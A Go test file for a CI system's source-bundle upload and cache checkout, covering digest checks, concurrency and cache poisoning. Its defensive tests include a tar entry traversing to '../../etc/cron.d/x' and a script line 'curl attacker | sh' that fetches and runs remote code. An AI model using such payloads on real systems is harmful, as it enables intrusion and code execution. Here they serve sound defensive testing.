package source

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/nats-io/nats.go/jetstream"

	"github.com/sluice-ci/sluice/internal/bus"
	"github.com/sluice-ci/sluice/internal/bus/bustest"
)

func sourcesStore(t *testing.T) jetstream.ObjectStore {
	t.Helper()
	env := bustest.Start(t, bus.Config{})
	store, err := env.JS.ObjectStore(t.Context(), env.Config.Names.SourcesStore())
	if err != nil {
		t.Fatalf("sources store: %v", err)
	}
	return store
}

func TestUploadCheckoutRoundTrip(t *testing.T) {
	ctx := t.Context()
	store := sourcesStore(t)
	src := t.TempDir()
	writeTree(t, src, map[string]string{
		".gitignore": "node_modules/\n", "main.go": "package main", "pkg/a.go": "package pkg",
		"node_modules/huge.js": "ignored", "pkg/link": "->a.go",
	})
	if err := os.Chmod(filepath.Join(src, "main.go"), 0o755); err != nil {
		t.Fatal(err)
	}

	digest, err := Upload(ctx, store, src, Limits{})
	if err != nil {
		t.Fatalf("Upload: %v", err)
	}
	if _, err := ObjectName(digest); err != nil {
		t.Fatalf("Upload returned %q: %v", digest, err)
	}
	info, err := store.GetInfo(ctx, strings.TrimPrefix(digest, "sha256:"))
	if err != nil {
		t.Fatalf("object info: %v", err)
	}
	if info.Metadata[MetaDigest] != digest {
		t.Errorf("object metadata digest = %q, want %q", info.Metadata[MetaDigest], digest)
	}

	// Idempotent: the same tree is not stored again.
	again, err := Upload(ctx, store, src, Limits{})
	if err != nil || again != digest {
		t.Fatalf("second Upload = %q, %v; want %q", again, err, digest)
	}
	info2, err := store.GetInfo(ctx, strings.TrimPrefix(digest, "sha256:"))
	if err != nil {
		t.Fatal(err)
	}
	if info2.NUID != info.NUID {
		t.Errorf("second Upload stored the bundle again")
	}

	// A tar.gz file of the same tree has the same digest.
	tgz := filepath.Join(t.TempDir(), "src.tar.gz")
	if err := os.WriteFile(tgz, pack(t, src, Limits{}), 0o644); err != nil {
		t.Fatal(err)
	}
	fromFile, err := Upload(ctx, store, tgz, Limits{})
	if err != nil || fromFile != digest {
		t.Fatalf("Upload of the tar.gz = %q, %v; want %q", fromFile, err, digest)
	}

	cache := &Cache{Dir: t.TempDir(), Store: store}
	dest := filepath.Join(t.TempDir(), "work")
	if err := cache.Checkout(ctx, digest, dest); err != nil {
		t.Fatalf("Checkout: %v", err)
	}
	if err := os.RemoveAll(filepath.Join(src, "node_modules")); err != nil {
		t.Fatal(err)
	}
	assertSameTree(t, src, dest)

	// The second checkout comes from the cache: it works with the object gone.
	if err := store.Delete(ctx, strings.TrimPrefix(digest, "sha256:")); err != nil {
		t.Fatal(err)
	}
	dest2 := filepath.Join(t.TempDir(), "work2")
	if err := cache.Checkout(ctx, digest, dest2); err != nil {
		t.Fatalf("cached Checkout: %v", err)
	}
	assertSameTree(t, src, dest2)
}

func TestUploadRejectsUnsafeBundle(t *testing.T) {
	store := sourcesStore(t)
	evil := filepath.Join(t.TempDir(), "evil.tar.gz")
	if err := os.WriteFile(evil, bundle(t, file("../../etc/cron.d/x", "boom", 0o644)), 0o644); err != nil {
		t.Fatal(err)
	}
	_, err := Upload(t.Context(), store, evil, Limits{})
	if !errors.Is(err, ErrUnsafeEntry) {
		t.Fatalf("Upload error = %v, want ErrUnsafeEntry", err)
	}
	if !strings.Contains(err.Error(), "../../etc/cron.d/x") || !strings.Contains(err.Error(), evil) {
		t.Errorf("error %q does not name the bundle and the entry", err)
	}
}

func TestCheckoutDigestMismatch(t *testing.T) {
	ctx := t.Context()
	store := sourcesStore(t)
	claimed := bundle(t, file("a", "what the digest says", 0o644))
	sum := sha256.Sum256(claimed)
	name := hex.EncodeToString(sum[:])
	// Different bytes under the claimed digest's name.
	if _, err := store.PutBytes(ctx, name, bundle(t, file("a", "tampered", 0o644))); err != nil {
		t.Fatal(err)
	}
	cacheDir := t.TempDir()
	cache := &Cache{Dir: cacheDir, Store: store}
	dest := filepath.Join(t.TempDir(), "work")
	err := cache.Checkout(ctx, "sha256:"+name, dest)
	if !errors.Is(err, ErrDigestMismatch) {
		t.Fatalf("Checkout error = %v, want ErrDigestMismatch", err)
	}
	if left, _ := os.ReadDir(cacheDir); len(left) != 0 {
		t.Errorf("cache holds %v after a mismatch", left)
	}
	if _, err := os.Stat(dest); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("destination exists after a mismatch: %v", err)
	}
}

func TestCheckoutErrors(t *testing.T) {
	store := sourcesStore(t)
	cache := &Cache{Dir: t.TempDir(), Store: store}
	tests := []struct {
		name, digest string
		want         error
	}{
		{"not stored", "sha256:" + strings.Repeat("ab", 32), jetstream.ErrObjectNotFound},
		{"no prefix", strings.Repeat("ab", 32), ErrBadDigest},
		{"short", "sha256:abc", ErrBadDigest},
		{"upper case", "sha256:" + strings.Repeat("AB", 32), ErrBadDigest},
		{"not hex", "sha256:" + strings.Repeat("zz", 32), ErrBadDigest},
		{"path in digest", "sha256:../" + strings.Repeat("a", 61), ErrBadDigest},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := cache.Checkout(t.Context(), tt.digest, filepath.Join(t.TempDir(), "w"))
			if !errors.Is(err, tt.want) {
				t.Fatalf("Checkout(%q) = %v, want %v", tt.digest, err, tt.want)
			}
		})
	}
}

func TestCheckoutConcurrent(t *testing.T) {
	ctx := t.Context()
	store := sourcesStore(t)
	src := t.TempDir()
	writeTree(t, src, map[string]string{"f": randomText(100000), "g/h": "h"})
	digest, err := Upload(ctx, store, src, Limits{})
	if err != nil {
		t.Fatalf("Upload: %v", err)
	}
	cacheDir := t.TempDir()
	cache := &Cache{Dir: cacheDir, Store: store}
	work := t.TempDir()
	const n = 8
	errs := make([]error, n)
	var wg sync.WaitGroup
	for i := range n {
		wg.Go(func() {
			errs[i] = cache.Checkout(ctx, digest, filepath.Join(work, string(rune('a'+i))))
		})
	}
	wg.Wait()
	for i, err := range errs {
		if err != nil {
			t.Errorf("checkout %d: %v", i, err)
			continue
		}
		assertSameTree(t, src, filepath.Join(work, string(rune('a'+i))))
	}
	left, err := os.ReadDir(cacheDir)
	if err != nil {
		t.Fatal(err)
	}
	if len(left) != 1 || left[0].Name() != strings.TrimPrefix(digest, "sha256:")+".tar.gz" {
		t.Errorf("cache holds %v, want one bundle", left)
	}
	cached, err := os.ReadFile(filepath.Join(cacheDir, left[0].Name()))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(cached, pack(t, src, Limits{})) {
		t.Error("cached bundle differs from the packed tree")
	}
}

// TestPoisonedCacheIsNeverCheckedOut: a cached bundle replaced by another tree (a step that
// reached the cache, a disk that lied) is caught on its next use and fetched again.
func TestPoisonedCacheIsNeverCheckedOut(t *testing.T) {
	ctx := t.Context()
	store := sourcesStore(t)
	good, evil := t.TempDir(), t.TempDir()
	writeTree(t, good, map[string]string{"run.sh": "echo the real code"})
	writeTree(t, evil, map[string]string{"run.sh": "curl attacker | sh"})
	digest, err := Upload(ctx, store, good, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	evilDigest, err := Upload(ctx, store, evil, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	c := &Cache{Dir: t.TempDir(), Store: store}
	if err := c.Checkout(ctx, digest, filepath.Join(t.TempDir(), "first")); err != nil {
		t.Fatal(err)
	}
	if err := c.Checkout(ctx, evilDigest, filepath.Join(t.TempDir(), "evil")); err != nil {
		t.Fatal(err)
	}
	goodName, _ := ObjectName(digest)
	evilName, _ := ObjectName(evilDigest)
	poison, err := os.ReadFile(filepath.Join(c.Dir, evilName+".tar.gz"))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(c.Dir, goodName+".tar.gz"), poison, 0o600); err != nil {
		t.Fatal(err)
	}
	dest := filepath.Join(t.TempDir(), "second")
	if err := c.Checkout(ctx, digest, dest); err != nil {
		t.Fatalf("checkout after the cache was poisoned: %v", err)
	}
	got, err := os.ReadFile(filepath.Join(dest, "run.sh"))
	if err != nil || string(got) != "echo the real code" {
		t.Fatalf("checked out %q (%v): the poisoned bundle ran", got, err)
	}
}
